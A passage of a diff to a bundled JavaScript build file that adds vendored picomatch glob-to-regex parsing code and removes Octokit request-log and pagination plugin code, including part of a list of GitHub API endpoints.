+              return qmarkNoDot + (rest ? QMARK.repeat(rest.length) : "");
+            }
+            return QMARK.repeat(chars.length);
+          }
+          if (first === ".") {
+            return DOT_LITERAL.repeat(chars.length);
+          }
+          if (first === "*") {
+            if (esc) {
+              return esc + first + (rest ? star : "");
+            }
+            return star;
+          }
+          return esc ? m : `\\${m}`;
+        });
+        if (backslashes === true) {
+          if (opts.unescape === true) {
+            output = output.replace(/\\/g, "");
+          } else {
+            output = output.replace(/\\+/g, (m) => {
+              return m.length % 2 === 0 ? "\\\\" : m ? "\\" : "";
+            });
+          }
+        }
+        if (output === input && opts.contains === true) {
+          state.output = input;
+          return state;
+        }
+        state.output = utils.wrapOutput(output, state, options);
+        return state;
+      }
+      while (!eos()) {
+        value = advance();
+        if (value === "\0") {
+          continue;
+        }
+        if (value === "\\") {
+          const next = peek();
+          if (next === "/" && opts.bash !== true) {
+            continue;
+          }
+          if (next === "." || next === ";") {
+            continue;
+          }
+          if (!next) {
+            value += "\\";
+            push({ type: "text", value });
+            continue;
+          }
+          const match = /^\\+/.exec(remaining());
+          let slashes = 0;
+          if (match && match[0].length > 2) {
+            slashes = match[0].length;
+            state.index += slashes;
+            if (slashes % 2 !== 0) {
+              value += "\\";
+            }
+          }
+          if (opts.unescape === true) {
+            value = advance();
+          } else {
+            value += advance();
+          }
+          if (state.brackets === 0) {
+            push({ type: "text", value });
+            continue;
+          }
+        }
+        if (state.brackets > 0 && (value !== "]" || prev.value === "[" || prev.value === "[^")) {
+          if (opts.posix !== false && value === ":") {
+            const inner = prev.value.slice(1);
+            if (inner.includes("[")) {
+              prev.posix = true;
+              if (inner.includes(":")) {
+                const idx = prev.value.lastIndexOf("[");
+                const pre = prev.value.slice(0, idx);
+                const rest2 = prev.value.slice(idx + 2);
+                const posix = POSIX_REGEX_SOURCE[rest2];
+                if (posix) {
+                  prev.value = pre + posix;
+                  state.backtrack = true;
+                  advance();
+                  if (!bos.output && tokens.indexOf(prev) === 1) {
+                    bos.output = ONE_CHAR;
+                  }
+                  continue;
+                }
+              }
+            }
+          }
+          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
+            value = `\\${value}`;
+          }
+          if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
+            value = `\\${value}`;
+          }
+          if (opts.posix === true && value === "!" && prev.value === "[") {
+            value = "^";
+          }
+          prev.value += value;
+          append({ value });
+          continue;
+        }
+        if (state.quotes === 1 && value !== '"') {
+          value = utils.escapeRegex(value);
+          prev.value += value;
+          append({ value });
+          continue;
+        }
+        if (value === '"') {
+          state.quotes = state.quotes === 1 ? 0 : 1;
+          if (opts.keepQuotes === true) {
+            push({ type: "text", value });
+          }
+          continue;
+        }
+        if (value === "(") {
+          increment("parens");
+          push({ type: "paren", value });
+          continue;
+        }
+        if (value === ")") {
+          if (state.parens === 0 && opts.strictBrackets === true) {
+            throw new SyntaxError(syntaxError("opening", "("));
+          }
+          const extglob = extglobs[extglobs.length - 1];
+          if (extglob && state.parens === extglob.parens + 1) {
+            extglobClose(extglobs.pop());
+            continue;
+          }
+          push({ type: "paren", value, output: state.parens ? ")" : "\\)" });
+          decrement("parens");
+          continue;
+        }
+        if (value === "[") {
+          if (opts.nobracket === true || !remaining().includes("]")) {
+            if (opts.nobracket !== true && opts.strictBrackets === true) {
+              throw new SyntaxError(syntaxError("closing", "]"));
+            }
+            value = `\\${value}`;
+          } else {
+            increment("brackets");
+          }
+          push({ type: "bracket", value });
+          continue;
+        }
+        if (value === "]") {
+          if (opts.nobracket === true || prev && prev.type === "bracket" && prev.value.length === 1) {
+            push({ type: "text", value, output: `\\${value}` });
+            continue;
+          }
+          if (state.brackets === 0) {
+            if (opts.strictBrackets === true) {
+              throw new SyntaxError(syntaxError("opening", "["));
+            }
+            push({ type: "text", value, output: `\\${value}` });
+            continue;
+          }
+          decrement("brackets");
+          const prevValue = prev.value.slice(1);
+          if (prev.posix !== true && prevValue[0] === "^" && !prevValue.includes("/")) {
+            value = `/${value}`;
+          }
+          prev.value += value;
+          append({ value });
+          if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
+            continue;
+          }
+          const escaped = utils.escapeRegex(prev.value);
+          state.output = state.output.slice(0, -prev.value.length);
+          if (opts.literalBrackets === true) {
+            state.output += escaped;
+            prev.value = escaped;
+            continue;
+          }
+          prev.value = `(${capture}${escaped}|${prev.value})`;
+          state.output += prev.value;
+          continue;
+        }
+        if (value === "{" && opts.nobrace !== true) {
+          increment("braces");
+          const open = {
+            type: "brace",
+            value,
+            output: "(",
+            outputIndex: state.output.length,
+            tokensIndex: state.tokens.length
+          };
+          braces.push(open);
+          push(open);
+          continue;
+        }
+        if (value === "}") {
+          const brace = braces[braces.length - 1];
+          if (opts.nobrace === true || !brace) {
+            push({ type: "text", value, output: value });
+            continue;
+          }
+          let output = ")";
+          if (brace.dots === true) {
+            const arr = tokens.slice();
+            const range = [];
+            for (let i = arr.length - 1; i >= 0; i--) {
+              tokens.pop();
+              if (arr[i].type === "brace") {
+                break;
+              }
+              if (arr[i].type !== "dots") {
+                range.unshift(arr[i].value);
+              }
+            }
+            output = expandRange(range, opts);
+            state.backtrack = true;
+          }
+          if (brace.comma !== true && brace.dots !== true) {
+            const out = state.output.slice(0, brace.outputIndex);
+            const toks = state.tokens.slice(brace.tokensIndex);
+            brace.value = brace.output = "\\{";
+            value = output = "\\}";
+            state.output = out;
+            for (const t of toks) {
+              state.output += t.output || t.value;
+            }
+          }
+          push({ type: "brace", value, output });
+          decrement("braces");
+          braces.pop();
+          continue;
+        }
+        if (value === "|") {
+          if (extglobs.length > 0) {
+            extglobs[extglobs.length - 1].conditions++;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (value === ",") {
+          let output = value;
+          const brace = braces[braces.length - 1];
+          if (brace && stack[stack.length - 1] === "braces") {
+            brace.comma = true;
+            output = "|";
+          }
+          push({ type: "comma", value, output });
+          continue;
+        }
+        if (value === "/") {
+          if (prev.type === "dot" && state.index === state.start + 1) {
+            state.start = state.index + 1;
+            state.consumed = "";
+            state.output = "";
+            tokens.pop();
+            prev = bos;
+            continue;
+          }
+          push({ type: "slash", value, output: SLASH_LITERAL });
+          continue;
+        }
+        if (value === ".") {
+          if (state.braces > 0 && prev.type === "dot") {
+            if (prev.value === ".") prev.output = DOT_LITERAL;
+            const brace = braces[braces.length - 1];
+            prev.type = "dots";
+            prev.output += value;
+            prev.value += value;
+            brace.dots = true;
+            continue;
+          }
+          if (state.braces + state.parens === 0 && prev.type !== "bos" && prev.type !== "slash") {
+            push({ type: "text", value, output: DOT_LITERAL });
+            continue;
+          }
+          push({ type: "dot", value, output: DOT_LITERAL });
+          continue;
+        }
+        if (value === "?") {
+          const isGroup = prev && prev.value === "(";
+          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            extglobOpen("qmark", value);
+            continue;
+          }
+          if (prev && prev.type === "paren") {
+            const next = peek();
+            let output = value;
+            if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
+              output = `\\${value}`;
+            }
+            push({ type: "text", value, output });
+            continue;
+          }
+          if (opts.dot !== true && (prev.type === "slash" || prev.type === "bos")) {
+            push({ type: "qmark", value, output: QMARK_NO_DOT });
+            continue;
+          }
+          push({ type: "qmark", value, output: QMARK });
+          continue;
+        }
+        if (value === "!") {
+          if (opts.noextglob !== true && peek() === "(") {
+            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
+              extglobOpen("negate", value);
+              continue;
+            }
+          }
+          if (opts.nonegate !== true && state.index === 0) {
+            negate();
+            continue;
+          }
+        }
+        if (value === "+") {
+          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            extglobOpen("plus", value);
+            continue;
+          }
+          if (prev && prev.value === "(" || opts.regex === false) {
+            push({ type: "plus", value, output: PLUS_LITERAL });
+            continue;
+          }
+          if (prev && (prev.type === "bracket" || prev.type === "paren" || prev.type === "brace") || state.parens > 0) {
+            push({ type: "plus", value });
+            continue;
+          }
+          push({ type: "plus", value: PLUS_LITERAL });
+          continue;
+        }
+        if (value === "@") {
+          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
+            push({ type: "at", extglob: true, value, output: "" });
+            continue;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (value !== "*") {
+          if (value === "$" || value === "^") {
+            value = `\\${value}`;
+          }
+          const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
+          if (match) {
+            value += match[0];
+            state.index += match[0].length;
+          }
+          push({ type: "text", value });
+          continue;
+        }
+        if (prev && (prev.type === "globstar" || prev.star === true)) {
+          prev.type = "star";
+          prev.star = true;
+          prev.value += value;
+          prev.output = star;
+          state.backtrack = true;
+          state.globstar = true;
+          consume(value);
+          continue;
+        }
+        let rest = remaining();
+        if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
+          extglobOpen("star", value);
+          continue;
+        }
+        if (prev.type === "star") {
+          if (opts.noglobstar === true) {
+            consume(value);
+            continue;
+          }
+          const prior = prev.prev;
+          const before = prior.prev;
+          const isStart = prior.type === "slash" || prior.type === "bos";
+          const afterStar = before && (before.type === "star" || before.type === "globstar");
+          if (opts.bash === true && (!isStart || rest[0] && rest[0] !== "/")) {
+            push({ type: "star", value, output: "" });
+            continue;
+          }
+          const isBrace = state.braces > 0 && (prior.type === "comma" || prior.type === "brace");
+          const isExtglob = extglobs.length && (prior.type === "pipe" || prior.type === "paren");
+          if (!isStart && prior.type !== "paren" && !isBrace && !isExtglob) {
+            push({ type: "star", value, output: "" });
+            continue;
+          }
+          while (rest.slice(0, 3) === "/**") {
+            const after = input[state.index + 4];
+            if (after && after !== "/") {
+              break;
+            }
+            rest = rest.slice(3);
+            consume("/**", 3);
+          }
+          const isEnd = eos() || state.parens > 0 && rest === ")".repeat(state.parens) && !extglobs.some((extglob) => extglob.type === "negate");
+          if (prior.type === "bos" && eos()) {
+            prev.type = "globstar";
+            prev.value += value;
+            prev.output = globstar(opts);
+            state.output = prev.output;
+            state.globstar = true;
+            consume(value);
+            continue;
+          }
+          if (prior.type === "slash" && prior.prev.type !== "bos" && !afterStar && isEnd) {
+            state.output = state.output.slice(0, -(prior.output + prev.output).length);
+            prior.output = `(?:${prior.output}`;
+            prev.type = "globstar";
+            prev.output = globstar(opts) + (opts.strictSlashes ? ")" : "|$)");
+            prev.value += value;
+            state.globstar = true;
+            state.output += prior.output + prev.output;
+            consume(value);
+            continue;
+          }
+          if (prior.type === "slash" && prior.prev.type !== "bos" && rest[0] === "/") {
+            const end = rest[1] !== void 0 ? "|$" : "";
+            state.output = state.output.slice(0, -(prior.output + prev.output).length);
+            prior.output = `(?:${prior.output}`;
+            prev.type = "globstar";
+            prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
+            prev.value += value;
+            state.output += prior.output + prev.output;
+            state.globstar = true;
+            consume(value + advance());
+            push({ type: "slash", value: "/", output: "" });
+            continue;
+          }
+          if (prior.type === "bos" && rest[0] === "/") {
+            prev.type = "globstar";
+            prev.value += value;
+            prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
+            state.output = prev.output;
+            state.globstar = true;
+            consume(value + advance());
+            push({ type: "slash", value: "/", output: "" });
+            continue;
+          }
+          state.output = state.output.slice(0, -prev.output.length);
+          prev.type = "globstar";
+          prev.output = globstar(opts);
+          prev.value += value;
+          state.output += prev.output;
+          state.globstar = true;
+          consume(value);
+          continue;
+        }
+        const token = { type: "star", value, output: star };
+        if (opts.bash === true) {
+          token.output = ".*?";
+          if (prev.type === "bos" || prev.type === "slash") {
+            token.output = nodot + token.output;
+          }
+          push(token);
+          continue;
+        }
+        if (prev && (prev.type === "bracket" || prev.type === "paren") && opts.regex === true) {
+          token.output = value;
+          push(token);
+          continue;
+        }
+        if (state.index === state.start || prev.type === "slash" || prev.type === "dot") {
+          if (prev.type === "dot") {
+            state.output += NO_DOT_SLASH;
+            prev.output += NO_DOT_SLASH;
+          } else if (opts.dot === true) {
+            state.output += NO_DOTS_SLASH;
+            prev.output += NO_DOTS_SLASH;
+          } else {
+            state.output += nodot;
+            prev.output += nodot;
+          }
+          if (peek() !== "*") {
+            state.output += ONE_CHAR;
+            prev.output += ONE_CHAR;
+          }
+        }
+        push(token);
+      }
+      while (state.brackets > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "]"));
+        state.output = utils.escapeLast(state.output, "[");
+        decrement("brackets");
+      }
+      while (state.parens > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", ")"));
+        state.output = utils.escapeLast(state.output, "(");
+        decrement("parens");
+      }
+      while (state.braces > 0) {
+        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "}"));
+        state.output = utils.escapeLast(state.output, "{");
+        decrement("braces");
+      }
+      if (opts.strictSlashes !== true && (prev.type === "star" || prev.type === "bracket")) {
+        push({ type: "maybe_slash", value: "", output: `${SLASH_LITERAL}?` });
+      }
+      if (state.backtrack === true) {
+        state.output = "";
+        for (const token of state.tokens) {
+          state.output += token.output != null ? token.output : token.value;
+          if (token.suffix) {
+            state.output += token.suffix;
+          }
+        }
+      }
+      return state;
+    };
+    parse2.fastpaths = (input, options) => {
+      const opts = { ...options };
+      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
+      const len = input.length;
+      if (len > max) {
+        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
+      }
+      input = REPLACEMENTS[input] || input;
+      const {
+        DOT_LITERAL,
+        SLASH_LITERAL,
+        ONE_CHAR,
+        DOTS_SLASH,
+        NO_DOT,
+        NO_DOTS,
+        NO_DOTS_SLASH,
+        STAR,
+        START_ANCHOR
+      } = constants.globChars(opts.windows);
+      const nodot = opts.dot ? NO_DOTS : NO_DOT;
+      const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
+      const capture = opts.capture ? "" : "?:";
+      const state = { negated: false, prefix: "" };
+      let star = opts.bash === true ? ".*?" : STAR;
+      if (opts.capture) {
+        star = `(${star})`;
+      }
+      const globstar = (opts2) => {
+        if (opts2.noglobstar === true) return star;
+        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
+      };
+      const create = (str3) => {
+        switch (str3) {
+          case "*":
+            return `${nodot}${ONE_CHAR}${star}`;
+          case ".*":
+            return `${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "*.*":
+            return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "*/*":
+            return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;
+          case "**":
+            return nodot + globstar(opts);
+          case "**/*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;
+          case "**/*.*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
+          case "**/.*":
+            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
+          default: {
+            const match = /^(.*?)\.(\w+)$/.exec(str3);
+            if (!match) return;
+            const source2 = create(match[1]);
+            if (!source2) return;
+            return source2 + DOT_LITERAL + match[2];
+          }
+        }
+      };
+      const output = utils.removePrefix(input, state);
+      let source = create(output);
+      if (source && opts.strictSlashes !== true) {
+        source += `${SLASH_LITERAL}?`;
+      }
+      return source;
+    };
+    module2.exports = parse2;
+  }
+});
+
+// node_modules/picomatch/lib/picomatch.js
+var require_picomatch = __commonJS({
+  "node_modules/picomatch/lib/picomatch.js"(exports2, module2) {
+    "use strict";
+    var scan = require_scan();
+    var parse2 = require_parse();
+    var utils = require_utils();
+    var constants = require_constants();
+    var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
+    var picomatch2 = (glob, options, returnState = false) => {
+      if (Array.isArray(glob)) {
+        const fns = glob.map((input) => picomatch2(input, options, returnState));
+        const arrayMatcher = (str3) => {
+          for (const isMatch of fns) {
+            const state2 = isMatch(str3);
+            if (state2) return state2;
+          }
+          return false;
+        };
+        return arrayMatcher;
+      }
+      const isState = isObject(glob) && glob.tokens && glob.input;
+      if (glob === "" || typeof glob !== "string" && !isState) {
+        throw new TypeError("Expected pattern to be a non-empty string");
+      }
+      const opts = options || {};
+      const posix = opts.windows;
+      const regex = isState ? picomatch2.compileRe(glob, options) : picomatch2.makeRe(glob, options, false, true);
+      const state = regex.state;
+      delete regex.state;
+      let isIgnored = () => false;
+      if (opts.ignore) {
+        const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
+        isIgnored = picomatch2(opts.ignore, ignoreOpts, returnState);
+      }
+      const matcher = (input, returnObject = false) => {
+        const { isMatch, match, output } = picomatch2.test(input, regex, options, { glob, posix });
+        const result = { glob, state, regex, posix, input, output, match, isMatch };
+        if (typeof opts.onResult === "function") {
+          opts.onResult(result);
+        }
+        if (isMatch === false) {
+          result.isMatch = false;
+          return returnObject ? result : false;
+        }
+        if (isIgnored(input)) {
+          if (typeof opts.onIgnore === "function") {
+            opts.onIgnore(result);
+          }
+          result.isMatch = false;
+          return returnObject ? result : false;
+        }
+        if (typeof opts.onMatch === "function") {
+          opts.onMatch(result);
+        }
+        return returnObject ? result : true;
+      };
+      if (returnState) {
+        matcher.state = state;
+      }
+      return matcher;
+    };
+    picomatch2.test = (input, regex, options, { glob, posix } = {}) => {
+      if (typeof input !== "string") {
+        throw new TypeError("Expected input to be a string");
+      }
+      if (input === "") {
+        return { isMatch: false, output: "" };
+      }
+      const opts = options || {};
+      const format = opts.format || (posix ? utils.toPosixSlashes : null);
+      let match = input === glob;
+      let output = match && format ? format(input) : input;
+      if (match === false) {
+        output = format ? format(input) : input;
+        match = output === glob;
+      }
+      if (match === false || opts.capture === true) {
+        if (opts.matchBase === true || opts.basename === true) {
+          match = picomatch2.matchBase(input, regex, options, posix);
+        } else {
+          match = regex.exec(output);
+        }
+      }
+      return { isMatch: Boolean(match), match, output };
+    };
+    picomatch2.matchBase = (input, glob, options, posix = options && options.windows) => {
+      const regex = glob instanceof RegExp ? glob : picomatch2.makeRe(glob, options);
+      return regex.test(utils.basename(input, { windows: posix }));
+    };
+    picomatch2.isMatch = (str3, patterns, options) => picomatch2(patterns, options)(str3);
+    picomatch2.parse = (pattern, options) => {
+      if (Array.isArray(pattern)) return pattern.map((p) => picomatch2.parse(p, options));
+      return parse2(pattern, { ...options, fastpaths: false });
+    };
+    picomatch2.scan = (input, options) => scan(input, options);
+    picomatch2.compileRe = (state, options, returnOutput = false, returnState = false) => {
+      if (returnOutput === true) {
+        return state.output;
+      }
+      const opts = options || {};
+      const prepend = opts.contains ? "" : "^";
+      const append = opts.contains ? "" : "$";
+      let source = `${prepend}(?:${state.output})${append}`;
+      if (state && state.negated === true) {
+        source = `^(?!${source}).*$`;
+      }
+      const regex = picomatch2.toRegex(source, options);
+      if (returnState === true) {
+        regex.state = state;
+      }
+      return regex;
+    };
+    picomatch2.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
+      if (!input || typeof input !== "string") {
+        throw new TypeError("Expected a non-empty string");
+      }
+      let parsed = { negated: false, fastpaths: true };
+      if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
+        parsed.output = parse2.fastpaths(input, options);
+      }
+      if (!parsed.output) {
+        parsed = parse2(input, options);
+      }
+      return picomatch2.compileRe(parsed, options, returnOutput, returnState);
+    };
+    picomatch2.toRegex = (source, options) => {
+      try {
+        const opts = options || {};
+        return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
+      } catch (err) {
+        if (options && options.debug === true) throw err;
+        return /$^/;
+      }
+    };
+    picomatch2.constants = constants;
+    module2.exports = picomatch2;
+  }
+});
+
+// node_modules/picomatch/index.js
+var require_picomatch2 = __commonJS({
+  "node_modules/picomatch/index.js"(exports2, module2) {
+    "use strict";
+    var pico = require_picomatch();
+    var utils = require_utils();
+    function picomatch2(glob, options, returnState = false) {
+      if (options && (options.windows === null || options.windows === void 0)) {
+        options = { ...options, windows: utils.isWindows() };
+      }
+      return pico(glob, options, returnState);
+    }
+    Object.assign(picomatch2, pico);
+    module2.exports = picomatch2;
+  }
+});
+
 // src/guard/audit.ts
 function escapeCell(text) {
   return text.replace(/[|\\`<>\r\n]/g, (c) => c === "\n" || c === "\r" ? " " : `\\${c}`).slice(0, 200);
@@ -10814,2725 +12590,6 @@ var require_dist_node8 = __commonJS({
   }
 });
 
-// node_modules/@octokit/plugin-request-log/dist-node/index.js
-var require_dist_node9 = __commonJS({
-  "node_modules/@octokit/plugin-request-log/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var dist_src_exports = {};
-    __export2(dist_src_exports, {
-      requestLog: () => requestLog
-    });
-    module2.exports = __toCommonJS2(dist_src_exports);
-    var VERSION2 = "4.0.1";
-    function requestLog(octokit) {
-      octokit.hook.wrap("request", (request, options) => {
-        octokit.log.debug("request", options);
-        const start = Date.now();
-        const requestOptions = octokit.request.endpoint.parse(options);
-        const path14 = requestOptions.url.replace(options.baseUrl, "");
-        return request(options).then((response) => {
-          octokit.log.info(
-            `${requestOptions.method} ${path14} - ${response.status} in ${Date.now() - start}ms`
-          );
-          return response;
-        }).catch((error) => {
-          octokit.log.info(
-            `${requestOptions.method} ${path14} - ${error.status} in ${Date.now() - start}ms`
-          );
-          throw error;
-        });
-      });
-    }
-    requestLog.VERSION = VERSION2;
-  }
-});
-
-// node_modules/@octokit/plugin-paginate-rest/dist-node/index.js
-var require_dist_node10 = __commonJS({
-  "node_modules/@octokit/plugin-paginate-rest/dist-node/index.js"(exports2, module2) {
-    "use strict";
-    var __defProp2 = Object.defineProperty;
-    var __getOwnPropDesc2 = Object.getOwnPropertyDescriptor;
-    var __getOwnPropNames2 = Object.getOwnPropertyNames;
-    var __hasOwnProp2 = Object.prototype.hasOwnProperty;
-    var __export2 = (target, all) => {
-      for (var name in all)
-        __defProp2(target, name, { get: all[name], enumerable: true });
-    };
-    var __copyProps2 = (to, from, except, desc) => {
-      if (from && typeof from === "object" || typeof from === "function") {
-        for (let key2 of __getOwnPropNames2(from))
-          if (!__hasOwnProp2.call(to, key2) && key2 !== except)
-            __defProp2(to, key2, { get: () => from[key2], enumerable: !(desc = __getOwnPropDesc2(from, key2)) || desc.enumerable });
-      }
-      return to;
-    };
-    var __toCommonJS2 = (mod) => __copyProps2(__defProp2({}, "__esModule", { value: true }), mod);
-    var index_exports = {};
-    __export2(index_exports, {
-      composePaginateRest: () => composePaginateRest,
-      isPaginatingEndpoint: () => isPaginatingEndpoint,
-      paginateRest: () => paginateRest,
-      paginatingEndpoints: () => paginatingEndpoints
-    });
-    module2.exports = __toCommonJS2(index_exports);
-    var VERSION2 = "11.4.4-cjs.2";
-    function normalizePaginatedListResponse(response) {
-      if (!response.data) {
-        return {
-          ...response,
-          data: []
-        };
-      }
-      const responseNeedsNormalization = "total_count" in response.data && !("url" in response.data);
-      if (!responseNeedsNormalization) return response;
-      const incompleteResults = response.data.incomplete_results;
-      const repositorySelection = response.data.repository_selection;
-      const totalCount = response.data.total_count;
-      delete response.data.incomplete_results;
-      delete response.data.repository_selection;
-      delete response.data.total_count;
-      const namespaceKey = Object.keys(response.data)[0];
-      const data = response.data[namespaceKey];
-      response.data = data;
-      if (typeof incompleteResults !== "undefined") {
-        response.data.incomplete_results = incompleteResults;
-      }
-      if (typeof repositorySelection !== "undefined") {
-        response.data.repository_selection = repositorySelection;
-      }
-      response.data.total_count = totalCount;
-      return response;
-    }
-    function iterator(octokit, route, parameters) {
-      const options = typeof route === "function" ? route.endpoint(parameters) : octokit.request.endpoint(route, parameters);
-      const requestMethod = typeof route === "function" ? route : octokit.request;
-      const method = options.method;
-      const headers = options.headers;
-      let url = options.url;
-      return {
-        [Symbol.asyncIterator]: () => ({
-          async next() {
-            if (!url) return { done: true };
-            try {
-              const response = await requestMethod({ method, url, headers });
-              const normalizedResponse = normalizePaginatedListResponse(response);
-              url = ((normalizedResponse.headers.link || "").match(
-                /<([^<>]+)>;\s*rel="next"/
-              ) || [])[1];
-              return { value: normalizedResponse };
-            } catch (error) {
-              if (error.status !== 409) throw error;
-              url = "";
-              return {
-                value: {
-                  status: 200,
-                  headers: {},
-                  data: []
-                }
-              };
-            }
-          }
-        })
-      };
-    }
-    function paginate(octokit, route, parameters, mapFn) {
-      if (typeof parameters === "function") {
-        mapFn = parameters;
-        parameters = void 0;
-      }
-      return gather(
-        octokit,
-        [],
-        iterator(octokit, route, parameters)[Symbol.asyncIterator](),
-        mapFn
-      );
-    }
-    function gather(octokit, results, iterator2, mapFn) {
-      return iterator2.next().then((result) => {
-        if (result.done) {
-          return results;
-        }
-        let earlyExit = false;
-        function done() {
-          earlyExit = true;
-        }
-        results = results.concat(
-          mapFn ? mapFn(result.value, done) : result.value.data
-        );
-        if (earlyExit) {
-          return results;
-        }
-        return gather(octokit, results, iterator2, mapFn);
-      });
-    }
-    var composePaginateRest = Object.assign(paginate, {
-      iterator
-    });
-    var paginatingEndpoints = [
-      "GET /advisories",
-      "GET /app/hook/deliveries",
-      "GET /app/installation-requests",
-      "GET /app/installations",
-      "GET /assignments/{assignment_id}/accepted_assignments",
-      "GET /classrooms",
-      "GET /classrooms/{classroom_id}/assignments",
-      "GET /enterprises/{enterprise}/code-security/configurations",
-      "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories",
-      "GET /enterprises/{enterprise}/dependabot/alerts",
-      "GET /enterprises/{enterprise}/secret-scanning/alerts",
-      "GET /events",
-      "GET /gists",
-      "GET /gists/public",
-      "GET /gists/starred",
-      "GET /gists/{gist_id}/comments",
-      "GET /gists/{gist_id}/commits",
-      "GET /gists/{gist_id}/forks",
-      "GET /installation/repositories",
-      "GET /issues",
-      "GET /licenses",
-      "GET /marketplace_listing/plans",
-      "GET /marketplace_listing/plans/{plan_id}/accounts",
-      "GET /marketplace_listing/stubbed/plans",
-      "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts",
-      "GET /networks/{owner}/{repo}/events",
-      "GET /notifications",
-      "GET /organizations",
-      "GET /orgs/{org}/actions/cache/usage-by-repository",
-      "GET /orgs/{org}/actions/permissions/repositories",
-      "GET /orgs/{org}/actions/runner-groups",
-      "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories",
-      "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/runners",
-      "GET /orgs/{org}/actions/runners",
-      "GET /orgs/{org}/actions/secrets",
-      "GET /orgs/{org}/actions/secrets/{secret_name}/repositories",
-      "GET /orgs/{org}/actions/variables",
-      "GET /orgs/{org}/actions/variables/{name}/repositories",
-      "GET /orgs/{org}/attestations/{subject_digest}",
-      "GET /orgs/{org}/blocks",
-      "GET /orgs/{org}/code-scanning/alerts",
-      "GET /orgs/{org}/code-security/configurations",
-      "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories",
-      "GET /orgs/{org}/codespaces",
-      "GET /orgs/{org}/codespaces/secrets",
-      "GET /orgs/{org}/codespaces/secrets/{secret_name}/repositories",
-      "GET /orgs/{org}/copilot/billing/seats",
-      "GET /orgs/{org}/copilot/metrics",
-      "GET /orgs/{org}/copilot/usage",
-      "GET /orgs/{org}/dependabot/alerts",
-      "GET /orgs/{org}/dependabot/secrets",
-      "GET /orgs/{org}/dependabot/secrets/{secret_name}/repositories",
-      "GET /orgs/{org}/events",
-      "GET /orgs/{org}/failed_invitations",
-      "GET /orgs/{org}/hooks",
-      "GET /orgs/{org}/hooks/{hook_id}/deliveries",
-      "GET /orgs/{org}/insights/api/route-stats/{actor_type}/{actor_id}",
-      "GET /orgs/{org}/insights/api/subject-stats",
-      "GET /orgs/{org}/insights/api/user-stats/{user_id}",
-      "GET /orgs/{org}/installations",
-      "GET /orgs/{org}/invitations",
-      "GET /orgs/{org}/invitations/{invitation_id}/teams",
-      "GET /orgs/{org}/issues",
-      "GET /orgs/{org}/members",
-      "GET /orgs/{org}/members/{username}/codespaces",
-      "GET /orgs/{org}/migrations",
-      "GET /orgs/{org}/migrations/{migration_id}/repositories",
-      "GET /orgs/{org}/organization-roles/{role_id}/teams",
-      "GET /orgs/{org}/organization-roles/{role_id}/users",
-      "GET /orgs/{org}/outside_collaborators",
-      "GET /orgs/{org}/packages",
-      "GET /orgs/{org}/packages/{package_type}/{package_name}/versions",
-      "GET /orgs/{org}/personal-access-token-requests",
-      "GET /orgs/{org}/personal-access-token-requests/{pat_request_id}/repositories",
-      "GET /orgs/{org}/personal-access-tokens",
-      "GET /orgs/{org}/personal-access-tokens/{pat_id}/repositories",
-      "GET /orgs/{org}/private-registries",
-      "GET /orgs/{org}/projects",
-      "GET /orgs/{org}/properties/values",
-      "GET /orgs/{org}/public_members",
